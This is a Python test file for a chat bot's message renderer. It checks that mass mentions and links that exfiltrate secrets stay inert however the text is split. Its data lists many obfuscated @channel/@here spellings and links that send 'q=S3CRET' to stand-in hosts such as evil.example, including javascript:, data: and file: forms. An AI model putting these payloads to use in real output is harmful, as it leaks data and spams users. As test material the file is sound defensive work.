"""T01, T02, T03, T07, T08: whatever a model writes, however it is cut, calls and leaks nothing.

Every spelling is cut at every place, and every frame is looked at in every form.
"""

import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.rendering.formats.blocks import blocks
from bot.rendering.formats.commonmark import markdown
from bot.rendering.formats.mrkdwn import mrkdwn
from bot.rendering.formats.plain import plain
from bot.rendering.layout.frame import PartLimits
from bot.rendering.parsing.links import LinkPolicy
from bot.rendering.renderer import Renderer
from tests.rendering.shown import of_markdown, of_mrkdwn

CALLS = ["<!channel>", "<!here>", "<!everyone>", "<!subteam^S1>", "<@U1>", "<@W1>", "<#C1>"]
AROUND = [
    "{}",
    "hey {} you",
    "**{}**",
    "*{}*",
    "~~{}~~",
    "`{}`",
    "``{}``",
    "```\n{}\n```",
    "> {}",
    "# {}",
    "### {}",
    "- {}",
    "1. {}",
    "- [ ] {}",
    "[{}](https://example.com)",
    "![{}](https://a.example/x)",
    "| {} | b |\n|---|---|\n| {} | c |",
    "\\{}",
    "$${}$$",
    "\\({}\\)",
    "<b>{}</b>",
    "[^1]: {}",
]
SPELLINGS = [
    *(call.removesuffix(">") + "|label>" for call in CALLS),
    "&lt;!channel&gt;",
    "&#60;!here&#62;",
    "&#x3c;@U1&#x3e;",
    "<\u200b!here>",
    "<\u2060!channel>",
    "<!\u200bhere>",
    "\u202e<!channel>",
    "<!channel\u0000>",
    "<!ch\u00adannel>",
    "\x1b[31m<!here>\x1b[0m",
    "@channel",
    "@here",
    "@everyone",
    "@HERE",
    "@Channel,",
    "(@everyone)",
    "a@here.example",
    "<mailto:x|<!here>>",
    "<https://a.example|<!here>>",
    "<!date^1^{date}|@here>",
    "<!channel",
    "!channel>",
    "< !channel>",
    "<<!channel>>",
    "<!channel><!here>",
    "\udc00<!here>",
    "\U000e0041<@U1>",
    "<@U1><@U2>",
    "&amp;lt;!here&amp;gt;",
    "\\<!here\\>",
    "<!here|@here>",
    "@everyone1",
    "@here_now",
    "@channels",
]
MENTIONS = [around.replace("{}", call) for call in CALLS for around in AROUND] + SPELLINGS

LIVE = re.compile(r"<[!@#][A-Za-z]")
BROADCAST = re.compile(r"@(here|channel|everyone)(?![a-z0-9_])", re.IGNORECASE)
ELEMENTS = {"text", "link", "emoji"}


def frames(text, policy=None):
    """Two frames for each place to cut, at the cut and in the end; of equal ones only the first."""
    return dict.fromkeys(every_frame(text, policy))


def every_frame(text, policy):
    for at in range(len(text)):
        renderer = Renderer(policy=policy)
        renderer.feed(text[:at])
        yield renderer.frame()
        renderer.feed(text[at:])
        yield renderer.frame()
    renderer.finish()
    yield renderer.frame()


def elements(value):
    """All that has a type, however deep."""
    if isinstance(value, dict):
        if "type" in value:
            yield value
        for each in value.values():
            yield from elements(each)
    elif isinstance(value, list | tuple):
        for each in value:
            yield from elements(each)


STRUCTURE = {
    "header", "plain_text", "divider", "table", "raw_text", "rich_text", "rich_text_section",
    "rich_text_list", "rich_text_quote", "rich_text_preformatted",
}  # fmt: skip


def test_there_are_enough_spellings():
    assert len(set(MENTIONS)) >= 180


@pytest.mark.parametrize("text", MENTIONS)
def test_nobody_is_called(text):
    for frame in frames(text):
        for part in frame.parts:
            found = {each["type"] for each in elements(blocks(part.flows))}
            assert found <= ELEMENTS | STRUCTURE
            for surface in (markdown(part.flows), mrkdwn(part.flows), plain(part.flows)):
                assert not LIVE.search(surface)
                assert not BROADCAST.search(surface)


TORN = st.lists(
    st.sampled_from([*CALLS, *SPELLINGS, "x", "1", " ", "words ", "日本", "**", "`", "\n\n", "- "])
)


@settings(max_examples=200, deadline=None)
@given(TORN, st.integers(60, 200), st.integers(3, 200))
def test_nobody_is_called_wherever_an_answer_is_cut(pieces, units, short):
    renderer = Renderer(PartLimits(units=units, parts=50))
    renderer.feed("".join(pieces) * 3)
    for part in renderer.frame().parts:
        for surface in (markdown(part.flows), mrkdwn(part.flows), plain(part.flows, short)):
            assert not LIVE.search(surface)
            assert not BROADCAST.search(CODE.sub("", surface))  # nothing is a name in code


HOSTS = [
    "evil.example",
    "EVIL.example",
    "evil。example",
    "evil．example",
    "xn--evl-example.example",
    "127.0.0.1",
]
SECRET = "q=S3CRET"
LINKS = [
    form.replace("{}", f"https://{host}/x?{SECRET}")
    for host in HOSTS
    for form in (
        "{}",
        "<{}>",
        "[a]({})",
        "[a](<{}>)",
        '[a]({} "t")',
        "![a]({})",
        "![]({})",
        "[![a]({})](https://ok.example)",
        "**[a]({})**",
        "`{}`",
        "<{}|a>",
        "[{}]({})",
        "[https://ok.example]({})",
        "> [a]({})",
        "- [a]({})",
        "# [a]({})",
        "| [a]({}) |\n|---|\n| {} |",
        "[a][1]\n\n[1]: {}",
        '<a href="{}">a</a>',
        '<img src="{}">',
        "[a\nb]({})",
        "「{}」",
        "a{}b",
        "(see {})",
        "[a]( {} )",
        "[a]({})[b]({})",
        "\\[a]({})",
        "[a\\]({})",
        "<b>[a]({})</b>",
        "~~{}~~",
    )
] + [
    "https://ok.example@evil.example/" + SECRET,
    "[a](https://ok.example@evil.example/" + SECRET + ")",
    "https://user:pw@evil.example/" + SECRET,
    "[a](//evil.example/" + SECRET + ")",
    "[a](\\\\evil.example\\" + SECRET + ")",
    "[a](https:evil.example/" + SECRET + ")",
    "[a](https:/evil.example/" + SECRET + ")",
    "[a](https:\\\\evil.example/" + SECRET + ")",
    "[a](javascript:alert('" + SECRET + "'))",
    "[a](data:text/html," + SECRET + ")",
    "[a](slack://open?" + SECRET + ")",
    "[a](file:///" + SECRET + ")",
    "[a](ftp://evil.example/" + SECRET + ")",
    "[a](https://ok.example.evil.example/" + SECRET + ")",
    "[a](https://evil.example/ok.example?" + SECRET + ")",
    "[a](https://evil.example#ok.example" + SECRET + ")",
    "[a](HTTPS://EVIL.EXAMPLE/" + SECRET + ")",
    "[a](&#104;ttps://evil.example/" + SECRET + ")",
    "[a](ht\ttps://evil.example/" + SECRET + ")",
    "[a](mailto:x@evil.example?body=" + SECRET + ")",
    "<mailto:x@evil.example?body=" + SECRET + ">",
    "[a](tel:" + SECRET + ")",
]

BARE = re.compile(
    r"(?<![\\\w])(?:https?|mailto|tel|javascript|data|slack|file|ftp):(?!\u2060)[^\s<>)]*",
    re.IGNORECASE,
)


def addresses(part):
    """Where a click, or an unfurl, could lead in any form, bare addresses in text included."""
    yield from (each["url"] for each in elements(blocks(part.flows)) if each["type"] == "link")
    for read, form in ((of_markdown, markdown), (of_mrkdwn, mrkdwn)):
        source = form(part.flows)
        yield from (url for url, _ in read([source]).links)
        yield from BARE.findall(LINK.sub("", CODE.sub("", source)))


LINK = re.compile(r"\[[^\]]*\]\([^)]*\)|<[^>]*>")
CODE = re.compile(r"(`+)(?!`).*?(?<!`)\1(?!`)", re.DOTALL)


def test_there_are_enough_links():
    assert len(set(LINKS)) >= 200


@pytest.mark.parametrize("text", LINKS)
def test_nothing_leaks_to_a_host_that_is_not_allowed(text):
    policy = LinkPolicy(("ok.example",))
    for frame in frames(text, policy):
        for part in frame.parts:
            for address in addresses(part):
                assert "S3CRET" not in address, address
            assert "image" not in json.dumps(blocks(part.flows))


@pytest.mark.parametrize("text", LINKS)
def test_without_a_list_only_plain_addresses_are_links(text):
    for frame in frames(text):
        for part in frame.parts:
            for address in addresses(part):
                assert re.match(
                    r"(?:https?://[^/@\\]+(?:[/?#]|$)|mailto:[^?]*$|tel:)", address, re.IGNORECASE
                ), address
